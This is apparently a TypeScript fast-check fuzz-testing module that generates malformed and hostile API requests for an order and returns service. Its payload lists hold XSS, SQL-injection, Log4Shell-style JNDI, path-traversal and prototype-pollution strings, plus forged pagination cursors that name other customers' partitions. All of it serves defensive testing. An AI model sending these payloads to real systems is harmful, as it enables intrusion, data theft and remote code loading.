// Hostile requests for the fuzz suites: valid-shaped bodies (fuzz-schema.ts)
// bent at one spot into the wrong type, an edge number, a huge or deeply nested
// value, a prototype-polluting key, plus raw non-JSON text; query strings the
// same way. Raw JSON text is spliced in through placeholders, because some of
// it (1e400, "__proto__" keys, 100,000 levels of nesting) cannot be built as a
// JS value and serialized.
import fc from 'fast-check';
import type * as z from 'zod/mini';
import { type Hints, pathsOf, shaped } from './fuzz-schema.ts';

/** Account data the logs must never show in full (fuzz-logging checks every log line for them). */
export const SECRETS = {
  iban: 'DE89370400440532013000',
  card: '4111111111111111',
  account: '00123456789012',
} as const;

/** Proof that no request polluted Object.prototype in the handler's process. */
export const POLLUTION_MARK = 'fuzzPolluted';

const nested = (depth: number, open: string, leaf: string, close: string) => `${open.repeat(depth)}${leaf}${close.repeat(depth)}`;

/** JSON texts that break types, bounds, parsers and key design. */
export const nastyJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'null',
    'true',
    '0',
    '-1',
    '-0',
    '1.5',
    '1e400',
    '-1e400',
    '9007199254740993',
    '1e21',
    '""',
    '"   "',
    '[]',
    '{}',
    '[null]',
    '"\\u0000"',
    '"\\ud800"',
    '"12"',
    '"true"',
    '"ORDER#x#y"',
    '"<script>alert(1)</script>"',
    '"\' OR 1=1 --"',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally.
    '"${jndi:ldap://example.com/a}"',
    '"../../etc/passwd"',
    `"${SECRETS.iban}"`,
    `"${SECRETS.card}"`,
    `"${SECRETS.account}"`,
    `{"__proto__":{"${POLLUTION_MARK}":"yes"}}`,
    `{"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}}`,
    `[{"__proto__":{"${POLLUTION_MARK}":"yes"}}]`,
  ),
  fc.integer({ min: 1, max: 12 }).map((e) => `"${'x'.repeat(10 ** Math.min(e, 5) * (e > 5 ? e - 4 : 1))}"`),
  fc.integer({ min: 1000, max: 70_000 }).map((n) => `[${Array.from({ length: n }, () => '1').join(',')}]`),
  fc.integer({ min: 50, max: 100_000 }).map((d) => nested(d, '[', '1', ']')),
  fc.integer({ min: 50, max: 20_000 }).map((d) => nested(d, '{"a":', '1', '}')),
  fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)),
  fc.string({ unit: 'binary', maxLength: 40 }).map((s) => JSON.stringify(s)),
  fc.integer({ min: 200, max: 3000 }).map((n) => `{${Array.from({ length: n }, (_, i) => `"k${i}":${i}`).join(',')}}`),
);

/** Text that is not the JSON the route wants at all. */
const rawJunk: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('', ' ', '{', '}', '{"a":', '[1,', 'nul', 'undefined', 'NaN', '{"a":1}{"b":2}', "{'a':1}", '{"a":1,}', '\u0000', '\ufeff{}'),
  fc.string({ unit: 'binary', maxLength: 200 }),
  nastyJson,
);

const RAW = '\u0000RAW\u0000';
const RAW_KEY = '\u0000KEY\u0000';

const setAt = (root: unknown, path: readonly (string | number)[], value: unknown): unknown => {
  if (path.length === 0) return value;
  const [head, ...rest] = path as [string | number, ...(string | number)[]];
  const container = (Array.isArray(root) ? [...root] : { ...(root as Record<string, unknown>) }) as Record<string | number, unknown>;
  container[head] = setAt(container[head], rest, value);
  return container;
};

const deleteAt = (root: unknown, path: readonly (string | number)[]): unknown => {
  if (path.length === 0 || root === null || typeof root !== 'object') return root;
  if (path.length === 1) {
    if (Array.isArray(root)) return root.filter((_, i) => i !== path[0]);
    const { [String(path[0])]: _dropped, ...rest } = root as Record<string, unknown>;
    return rest;
  }
  const [head, ...rest] = path as [string | number, ...(string | number)[]];
  return setAt(root, [head], deleteAt((root as Record<string | number, unknown>)[head], rest));
};

const objectPaths = (value: unknown) =>
  pathsOf(value).filter((p) => {
    let node: unknown = value;
    for (const key of p) node = (node as Record<string | number, unknown>)[key];
    return node !== null && typeof node === 'object' && !Array.isArray(node);
  });

export type Mutation = 'valid' | 'replace' | 'delete' | 'extra-key' | 'pollute' | 'raw';

/** A request body as sent: JSON text (or junk) and what was done to it. */
export interface FuzzBody {
  readonly text: string | undefined;
  readonly mutation: Mutation;
}

/** One valid-shaped value of `schema`, then one mutation. */
export const fuzzBody = (schema: z.ZodMiniType, hints: Hints = {}): fc.Arbitrary<FuzzBody> =>
  fc
    .tuple(
      shaped(schema, hints),
      fc.constantFrom<Mutation>('valid', 'replace', 'replace', 'replace', 'delete', 'extra-key', 'pollute', 'raw'),
      fc.nat(),
      nastyJson,
      rawJunk,
      fc.constantFrom('__proto__', 'constructor', 'prototype', 'PK', 'version', 'status', 'id', 'customerId', 'x'),
    )
    .map(([value, mutation, pick, nasty, junk, key]): FuzzBody => {
      if (mutation === 'valid') return { text: value === undefined ? undefined : JSON.stringify(value), mutation };
      if (mutation === 'raw') return { text: junk, mutation };
      const paths = mutation === 'extra-key' || mutation === 'pollute' ? objectPaths(value) : pathsOf(value);
      const path = paths[pick % Math.max(paths.length, 1)] ?? [];
      if (mutation === 'delete') return { text: JSON.stringify(deleteAt(value, path) ?? null), mutation };
      if (mutation === 'replace') return { text: JSON.stringify(setAt(value, path, RAW)).replace(JSON.stringify(RAW), nasty), mutation };
      // extra-key / pollute: a key spliced into an object of the body.
      const target = setAt(value, [...path, RAW_KEY], RAW);
      const raw =
        mutation === 'pollute'
          ? `"__proto__":{"${POLLUTION_MARK}":"yes"},"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}`
          : `${JSON.stringify(key)}:${nasty}`;
      return { text: JSON.stringify(target).replace(`${JSON.stringify(RAW_KEY)}:${JSON.stringify(RAW)}`, raw), mutation };
    });

/** Strings that break a query parameter's parser or pattern. */
const nastyQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '0',
    '-1',
    '101',
    '100000000000000000000',
    '1.5',
    '1e2',
    '0x10',
    'NaN',
    'Infinity',
    'null',
    'true',
    '[]',
    '{}',
    '%',
    '%zz',
    '%00',
    '\u0000',
    'a,b',
    '__proto__',
    'constructor',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.integer({ min: 2049, max: 20_000 }).map((n) => 'x'.repeat(n)),
  fc.base64String({ maxLength: 300 }),
  // Cursors that look like ours: base64url JSON keys naming partitions the caller does not own.
  fc
    .record({
      PK: fc.constantFrom('ORDER#ord_x', 'SETTINGS', 'IDEMPOTENCY#x'),
      SK: fc.string({ maxLength: 20 }),
      GSI1PK: fc.constantFrom('CUSTOMER#someone-else', 'CUSTOMER#'),
    })
    .map((key) => Buffer.from(JSON.stringify(key)).toString('base64url')),
);

/** Encodes like a browser would, or not at all (raw `%`, `+`, `&`), so the gateway's own decoding is fuzzed too. */
const encodeQuery = (pairs: readonly (readonly [string, string])[], raw: boolean): string =>
  pairs.map(([k, v]) => (raw ? `${k}=${v.replace(/[#\s]/g, '')}` : `${encodeURIComponent(k)}=${encodeURIComponent(v)}`)).join('&');

/** A query string (without `?`) for a route: its own parameters valid-shaped or broken, plus strangers. */
export const fuzzQuery = (schema: z.ZodMiniType | undefined, options: { fields: boolean; hints?: Hints }): fc.Arbitrary<string> => {
  const own = schema ? (shaped(schema, options.hints) as fc.Arbitrary<Record<string, unknown>>) : fc.constant({});
  const names = [...(schema ? Object.keys((schema as z.ZodMiniObject).shape) : []), ...(options.fields ? ['fields'] : []), 'limit', 'cursor', '__proto__', 'x'];
  return fc
    .tuple(
      own,
      fc.array(fc.tuple(fc.constantFrom(...names), nastyQueryValue), { maxLength: 3 }),
      options.fields
        ? fc.option(fc.constantFrom('id', 'id,version', 'nope', '__proto__', 'constructor', 'toString', ',', 'id,,status'), { nil: undefined })
        : fc.constant(undefined),
      fc.boolean(),
    )
    .map(([valid, broken, fields, raw]) => {
      const pairs: [string, string][] = Object.entries(valid ?? {})
        .filter(([, v]) => v !== undefined)
        .map(([k, v]) => [k, String(v)]);
      for (const [k, v] of broken) pairs.push([k, v]);
      if (fields !== undefined) pairs.push(['fields', fields]);
      return encodeQuery(pairs, raw);
    });
};

/** Path parameter values: the fixtures' real ids most of the time, else well-formed strangers and junk. */
export const fuzzParam = (known: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: known.length > 0 ? fc.constantFrom(...known) : fc.constant('x'), weight: 6 },
    {
      arbitrary: fc.constantFrom(
        'ord_01JAAAAAAAAAAAAAAAAAAAAAAA',
        'ret_0',
        'rfd_x',
        'att_',
        '',
        ' ',
        '..',
        '%2F',
        'ORDER#x',
        '__proto__',
        'constructor',
        'a'.repeat(3000),
      ),
      weight: 2,
    },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 80 }), weight: 2 },
  );

/** Headers a hostile client may add. */
export const fuzzHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    'content-type': fc.constantFrom(
      'application/json',
      'application/json; charset=utf-8',
      'text/plain',
      'application/octet-stream',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
    ),
    'if-match': fc.oneof(fc.constantFrom('"1"', '"2"', 'W/"1"', '*', '"abc"', '""', '"99999999999999"', '1'), fc.string({ maxLength: 20 })),
    'idempotency-key': fc.oneof(fc.uuid(), fc.constantFrom('', ' ', 'x'.repeat(256), 'same-key'), fc.string({ unit: 'binary', maxLength: 40 })),
  },
  { requiredKeys: ['content-type'] },
);

/**
 * Guards for routes whose success would change what every other test sees (the
 * shop's settings, the reasons customers are offered): a stale If-Match makes
 * them refuse after validation, and a created reason is inactive, so they are
 * still fuzzed but never change the shop under the other suites.
 */
export const tame = (routeId: string, headers: Record<string, string>, body: string | undefined) => {
  if (routeId === 'settings.update' || routeId === 'settings.updateReason') return { headers: { ...headers, 'if-match': '"999999999"' }, body };
  if (routeId === 'settings.createReason' && body) {
    try {
      const value: unknown = JSON.parse(body);
      if (value && typeof value === 'object' && !Array.isArray(value)) return { headers, body: JSON.stringify({ ...value, active: false }) };
    } catch {
      // Not JSON: sent as is, to be refused.
    }
  }
  return { headers, body };
};
